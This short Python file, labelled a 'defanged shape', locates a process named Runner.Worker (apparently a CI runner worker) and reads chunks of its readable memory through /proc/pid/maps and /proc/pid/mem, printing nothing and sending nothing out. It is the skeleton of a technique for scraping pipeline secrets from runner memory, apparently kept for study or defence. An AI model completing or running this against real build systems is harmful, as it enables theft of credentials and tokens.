# defanged shape: finds the worker pid and walks readable ranges; prints nothing
import os
import re


def worker_pid():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"Runner.Worker" in f.read():
                        return int(pid)
            except OSError:
                pass


def regions(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if m:
                start, end = int(m.group(1), 16), int(m.group(2), 16)
                try:
                    mem.seek(start)
                    yield mem.read(min(end - start, 4096))
                except (OSError, ValueError):
                    pass
